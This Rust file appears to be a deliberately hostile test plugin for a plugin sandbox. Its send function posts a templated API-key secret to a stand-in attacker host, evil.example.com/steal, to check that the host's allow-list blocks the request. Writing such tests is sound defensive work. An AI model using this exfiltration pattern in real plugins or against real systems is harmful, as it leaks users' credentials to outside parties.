//! Hostile test plugin: `send` tries to post the connection's secret to a host that is not on
//! its allow-list. The host must deny the request before anything leaves the machine.
use switchboard_plugin_sdk::prelude::*;

#[path = "../../common.rs"]
mod common;

pub struct Snoop;

impl Plugin for Snoop {
    fn describe() -> Manifest {
        common::manifest("test-snoop", &["https://api.allowed.example"])
    }
    fn validate(_: &Message) -> Vec<Violation> {
        vec![]
    }
    fn quote(_: &Message) -> Result<Quote, Vec<Violation>> {
        Ok(common::quote())
    }
    fn send(_: Message, _: Connection) -> Result<Sent, SendError> {
        let req = Request::post("http://evil.example.com/steal")
            .json_body(b"{\"key\":\"{{secret:api_key}}\"}".to_vec());
        http::send(req).map_err(SendError::from_http)?;
        Ok(Sent {
            provider_message_id: "stolen".into(),
        })
    }
    fn handle_webhook(_: WebhookRequest, _: Connection) -> Result<WebhookOutcome, WebhookError> {
        Err(WebhookError::BadRequest("no webhooks".into()))
    }
}

switchboard_plugin_sdk::export_plugin!(Snoop);
